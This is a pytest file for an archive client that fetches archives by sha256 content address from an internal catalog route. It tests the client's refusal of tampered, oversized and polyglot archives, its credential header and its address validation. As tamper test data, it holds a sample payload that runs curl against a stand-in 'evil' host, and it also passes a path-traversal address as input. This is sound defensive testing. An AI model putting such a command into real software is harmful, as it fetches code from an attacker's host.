"""The typed archive client (wemcp.common.archive_client) against a real HTTP server on loopback that
plays the catalog's internal route: it stores what hashes to the address, refuses tampered, oversized
and polyglot answers without leaving anything in the store, and sends the service credential."""

from __future__ import annotations

import hashlib
import io
import zipfile
from pathlib import Path

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response, StreamingResponse
from starlette.routing import Route

from wemcp.common.archive_client import (
    ArchiveClient,
    ArchiveNotFound,
    ArchiveRefusedFormat,
    ArchiveTampered,
    ArchiveTooLarge,
    ArchiveUnavailable,
)
from wemcp.devstack.testing import serve_app, tar_gz

GOOD = tar_gz({"server.py": "print('hi')\n"})
GOOD_SHA = hashlib.sha256(GOOD).hexdigest()


def _zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("index.js", "console.log(1)")
    return buf.getvalue()


class Catalog:
    """What the stand-in answers per address; records the credential headers it saw."""

    def __init__(self) -> None:
        self.answers: dict[str, bytes] = {}
        self.chunked: set[str] = set()  # answered without Content-Length
        self.seen: list[str | None] = []

    def app(self) -> Starlette:
        async def archive(request: Request) -> Response:
            sha = request.path_params["sha"]
            self.seen.append(request.headers.get("x-wemcp-assertion"))
            if request.headers.get("x-wemcp-assertion") != "service-credential":
                return Response(status_code=401)
            if sha == "f" * 64:
                return Response(status_code=503)
            if sha not in self.answers:
                return Response(status_code=404)
            data = self.answers[sha]
            if sha in self.chunked:
                async def body():
                    for i in range(0, len(data), 1000):
                        yield data[i:i + 1000]
                return StreamingResponse(body(), media_type="application/gzip")
            return Response(data, media_type="application/gzip")

        return Starlette(routes=[Route("/internal/archives/{sha}", archive)])


def _files(store: Path) -> list[str]:
    return sorted(p.name for p in store.iterdir()) if store.exists() else []


@pytest.fixture
async def catalog():
    cat = Catalog()
    async with serve_app(cat.app()) as url:
        yield cat, url


def client(url: str, **kw) -> ArchiveClient:
    return ArchiveClient(url, credential=lambda: {"x-wemcp-assertion": "service-credential"}, **kw)


async def test_fetches_by_content_address_into_the_store_once(catalog, tmp_path):
    cat, url = catalog
    cat.answers[GOOD_SHA] = GOOD
    zipped = _zip()
    zip_sha = hashlib.sha256(zipped).hexdigest()
    cat.answers[zip_sha] = zipped
    path = await client(url).fetch(GOOD_SHA, tmp_path / "store")
    assert path == tmp_path / "store" / f"{GOOD_SHA}.tar.gz" and path.read_bytes() == GOOD
    assert (await client(url).fetch(zip_sha, tmp_path / "store")).name == f"{zip_sha}.zip"
    assert cat.seen == ["service-credential", "service-credential"]
    # already in the store: not asked again
    assert await client(url).fetch(GOOD_SHA, tmp_path / "store") == path and len(cat.seen) == 2
    assert _files(tmp_path / "store") == sorted([f"{GOOD_SHA}.tar.gz", f"{zip_sha}.zip"])


@pytest.mark.parametrize("chunked", [False, True])
async def test_a_tampered_archive_is_refused_and_never_stored(catalog, tmp_path, chunked):
    """The catalog (or anything between) answers other bytes than the address names."""
    cat, url = catalog
    other = tar_gz({"server.py": "import os; os.system('curl evil')\n"})
    cat.answers[GOOD_SHA] = other
    if chunked:
        cat.chunked.add(GOOD_SHA)
    with pytest.raises(ArchiveTampered, match="does not match its sha256; upload it again"):
        await client(url).fetch(GOOD_SHA, tmp_path / "store")
    assert _files(tmp_path / "store") == []  # not even a partial file


@pytest.mark.parametrize("chunked", [False, True])
async def test_an_archive_above_the_bound_is_refused_while_streaming(catalog, tmp_path, chunked):
    cat, url = catalog
    big = tar_gz({"blob.bin": hashlib.sha256(b"x").hexdigest() * 2000})
    sha = hashlib.sha256(big).hexdigest()
    cat.answers[sha] = big
    if chunked:  # no Content-Length: the bound is counted on the bytes themselves
        cat.chunked.add(sha)
    with pytest.raises(ArchiveTooLarge):
        await client(url, max_bytes=len(big) - 1).fetch(sha, tmp_path / "store")
    assert _files(tmp_path / "store") == []
    assert (await client(url, max_bytes=len(big)).fetch(sha, tmp_path / "store")).read_bytes() == big


async def test_a_polyglot_or_unknown_format_is_refused(catalog, tmp_path):
    cat, url = catalog
    polyglot = GOOD + _zip()  # a tar.gz with a zip appended: Python's zip reader would open it
    for data in (polyglot, b"#!/bin/sh\necho not an archive\n"):
        sha = hashlib.sha256(data).hexdigest()
        cat.answers[sha] = data
        with pytest.raises(ArchiveRefusedFormat, match="the uploaded archive is refused"):
            await client(url).fetch(sha, tmp_path / "store")
    assert _files(tmp_path / "store") == []


async def test_missing_unavailable_and_uncredentialed(catalog, tmp_path):
    cat, url = catalog
    with pytest.raises(ArchiveNotFound, match="upload it again"):
        await client(url).fetch("ab" * 32, tmp_path / "store")
    with pytest.raises(ArchiveUnavailable, match="answered 503"):
        await client(url).fetch("f" * 64, tmp_path / "store")
    cat.answers[GOOD_SHA] = GOOD
    with pytest.raises(ArchiveUnavailable, match="answered 401"):
        await ArchiveClient(url).fetch(GOOD_SHA, tmp_path / "store")
    with pytest.raises(ArchiveUnavailable, match="did not hand over"):
        await client("http://127.0.0.1:9").fetch(GOOD_SHA, tmp_path / "store")
    assert _files(tmp_path / "store") == []


@pytest.mark.parametrize("bad", ["AB" * 32, "ab" * 31, "../" + "a" * 61, "a" * 63 + "/"])
async def test_only_content_addresses_are_asked_for(catalog, tmp_path, bad):
    cat, url = catalog
    with pytest.raises(ValueError, match="64 lowercase hex digits"):
        await client(url).fetch(bad, tmp_path / "store")
    assert cat.seen == []
